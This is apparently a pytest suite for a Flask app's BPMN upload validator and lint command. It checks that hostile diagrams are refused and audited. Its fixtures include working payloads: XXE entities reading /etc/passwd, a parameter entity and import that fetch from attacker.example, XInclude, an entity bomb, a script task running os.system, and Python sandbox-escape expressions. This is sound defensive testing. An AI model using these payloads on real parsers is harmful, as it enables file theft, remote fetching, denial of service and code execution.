"""An uploaded diagram is a code deployment: malicious files are refused with a reason and an audit
event; `flask processes lint` prints one line per problem."""

import hashlib
import socket
from pathlib import Path

import pytest

from app.engine import lint, xml_safety
from app.engine.errors import DiagramError
from app.extensions import db
from app.models import AuditEvent, ProcessDefinition
from app.services.design import designer, processes

ROOT = Path(__file__).resolve().parents[2]
XML = (ROOT / "processes" / "rectification.bpmn").read_bytes()
OPEN = (
    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="t">'
)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'.encode() for i in range(1, 10))
    + b"]>"
    + OPEN.encode()
    + b"<bpmn:process id='p'><bpmn:documentation>&lol9;</bpmn:documentation>"
    + b"</bpmn:process></bpmn:definitions>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + OPEN.encode()
    + b"<bpmn:process id='p' name='&xxe;'/></bpmn:definitions>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
    b"%remote;]>" + OPEN.encode() + b"</bpmn:definitions>"
)
DOCTYPE_ONLY = b'<?xml version="1.0"?><!DOCTYPE definitions>' + XML.split(b"?>", 1)[1]
SCRIPT_TASK = XML.replace(
    b'<bpmn:userTask id="deploy" name="',
    b'<bpmn:scriptTask id="evil" name="x"><bpmn:script>import os; os.system("id")</bpmn:script></bpmn:scriptTask>'
    b'<bpmn:userTask id="deploy" name="',
)

# 60,000 data objects in 1.9 MB: under the size cap, far over the element count.
_PROCESS_OPEN = XML.index(b">", XML.index(b"<bpmn:process ")) + 1
ELEMENT_BOMB = (
    XML[:_PROCESS_OPEN] + b"".join(b'<bpmn:dataObject id="d%d"/>' % i for i in range(60_000)) + XML[_PROCESS_OPEN:]
)
XINCLUDE = XML.replace(
    b'<bpmn:userTask id="deploy" name="',
    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    b'<bpmn:userTask id="deploy" name="',
)
IMPORT_LOCATION = XML.replace(
    b"<bpmn:process ",
    b'<bpmn:import importType="http://www.omg.org/spec/BPMN/20100524/MODEL" '
    b'location="http://attacker.example/other.bpmn" namespace="x"/><bpmn:process ',
    1,
)


def _condition(expression: bytes) -> bytes:
    return XML.replace(b"decision == 'return'", expression)


MALICIOUS = {
    "billion_laughs": (BILLION_LAUGHS, "entity", None),
    "external_entity": (EXTERNAL, "external_entity", None),
    "parameter_entity": (PARAMETER_ENTITY, "external_entity", None),
    "doctype": (DOCTYPE_ONLY, "doctype", None),
    "script_task": (SCRIPT_TASK, "script", "evil"),
    "dunder": (
        _condition(b"().__class__.__base__.__subclasses__()"),
        "unsafe_expression",
        "flow_gw_review_to_self_check",
    ),
    "power": (_condition(b"9**9**9 == decision"), "unsafe_expression", "flow_gw_review_to_self_check"),
    "repetition": (_condition(b"decision == 'x' * 1000000000000"), "unsafe_expression", "flow_gw_review_to_self_check"),
    "format_width": (
        _condition(b"decision == '%0999999999d' % 1"),
        "unsafe_expression",
        "flow_gw_review_to_self_check",
    ),
    "comprehension": (
        _condition(b"[x for x in ledger for y in ledger]"),
        "unsafe_expression",
        "flow_gw_review_to_self_check",
    ),
    "lambda": (_condition(b"(lambda: decision)()"), "unsafe_expression", "flow_gw_review_to_self_check"),
    "not_xml": (b"MZ\x90\x00 this is an exe", "not_xml", None),
    "element_bomb": (ELEMENT_BOMB, "elements", None),
    "xinclude": (XINCLUDE, "xinclude", None),
    "import_location": (IMPORT_LOCATION, "external_reference", None),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_malicious_upload_is_refused_with_reason_and_audit(ctx, make_user, case):
    data, code, element_id = MALICIOUS[case]
    designer_id = make_user("designer")
    refused = designer.check_upload(data, f"{case}.bpmn", designer_id)
    assert refused, case
    assert code in {p.code for p in refused}
    assert element_id is None or element_id in {p.element_id for p in refused}
    assert all(p.is_error and p.message for p in refused)
    event = db.session.query(AuditEvent).filter_by(action="process.upload_refused").one()
    assert event.actor_id == designer_id
    assert event.after["filename"] == f"{case}.bpmn"
    assert event.after["sha256"] == hashlib.sha256(data).hexdigest()
    assert code in event.after["codes"] and event.after["reason"]
    # Deploying it is refused too (and audited), nothing stored.
    with pytest.raises(DiagramError):
        processes.deploy(data, f"{case}.bpmn", designer_id)
    assert db.session.query(ProcessDefinition).count() == 1
    assert db.session.query(AuditEvent).filter_by(action="process.deploy_refused").count() == 1


def test_oversized_upload_is_refused_before_parsing(app, ctx):
    app.config["BPMN_MAX_BYTES"] = 1024
    try:
        refused = designer.check_upload(XML, "big.bpmn", None)
    finally:
        app.config["BPMN_MAX_BYTES"] = 2 * 1024 * 1024
    assert [p.code for p in refused] == ["size"]
    assert "上限" in refused[0].message
    assert db.session.query(AuditEvent).filter_by(action="process.upload_refused").count() == 1


def test_a_fixable_diagram_passes_the_trust_boundary(ctx):
    missing_form = XML.replace(b'form_key" value="assessment"', b'form_key" value="no_such_form"')
    assert designer.check_upload(missing_form, "r.bpmn", None) == []
    assert [(p.element_id, p.code) for p in designer.lint(missing_form, "r.bpmn")] == [("assessment", "form_key")]
    assert db.session.query(AuditEvent).filter_by(action="process.upload_refused").count() == 0


def test_lint_cli_prints_one_line_per_problem_and_fails_on_errors(runner, tmp_path):
    good = tmp_path / "good.bpmn"
    good.write_bytes(XML)
    result = runner.invoke(args=["processes", "lint", str(good)])
    assert result.exit_code == 0, result.output
    bad = tmp_path / "bad.bpmn"
    bad.write_bytes(
        XML.replace(b'form_key" value="assessment"', b'form_key" value="no_such_form"').replace(
            b'id="send_reminder"', b'id="rm_rf"', 1
        )
    )
    result = runner.invoke(args=["processes", "lint", str(good), str(bad)])
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if line.startswith(str(bad))]
    assert f"{bad}:assessment: error: 「总结评估」使用的表单 no_such_form 在 forms/ 中不存在" in lines
    assert f"{bad}:deploy_send_reminder: error: 「催办」调用了未登记的操作 rm_rf" in lines
    assert len(lines) == 2


def test_lint_cli_warnings_alone_exit_zero(runner, tmp_path):
    no_di = tmp_path / "no_di.bpmn"
    no_di.write_bytes(XML.split(b"<bpmndi:BPMNDiagram")[0] + b"</bpmn:definitions>")
    result = runner.invoke(args=["processes", "lint", str(no_di)])
    assert result.exit_code == 0, result.output
    assert f"{no_di}:-: warning: 文件没有图形信息" in result.output


def test_element_bomb_is_refused_by_the_streaming_pass_before_any_tree(ctx, monkeypatch):
    assert len(ELEMENT_BOMB) < designer.max_bytes()
    monkeypatch.setattr(xml_safety.etree, "fromstring", _never)
    monkeypatch.setattr(lint, "SpiffBpmnParser", _never)
    refused = designer.check_upload(ELEMENT_BOMB, "bomb.bpmn", None)
    assert [p.code for p in refused] == ["elements"]
    assert "元素过多（超过 20000 个）" in refused[0].message


def test_element_depth_and_parse_time_limits(app, ctx, monkeypatch):
    deep = OPEN.encode() + b"<bpmn:documentation>" * 150 + b"</bpmn:documentation>" * 150 + b"</bpmn:definitions>"
    assert [p.code for p in designer.lint(deep, "deep.bpmn")] == ["depth"]
    monkeypatch.setitem(app.config, "BPMN_MAX_ELEMENTS", 100)
    assert [p.code for p in designer.lint(XML, "r.bpmn")] == ["elements"]
    monkeypatch.setitem(app.config, "BPMN_MAX_ELEMENTS", 20_000)
    monkeypatch.setitem(app.config, "BPMN_MAX_PARSE_SECONDS", 0.000001)
    assert [p.code for p in designer.lint(XML, "r.bpmn")] == ["parse_time"]


def test_schema_location_is_a_hint_never_fetched(ctx, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the lint opened a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    hinted = XML.replace(
        b"<bpmn:definitions ",
        b'<bpmn:definitions xsi:schemaLocation="http://www.omg.org/spec/BPMN/'
        b'20100524/MODEL http://attacker.example/BPMN20.xsd" ',
        1,
    )
    assert b"attacker.example" in hinted
    assert designer.check_upload(hinted, "r.bpmn", None) == []
    assert designer.lint(hinted, "r.bpmn") == []


def _never(*args, **kwargs):
    raise AssertionError("a refused file was parsed")
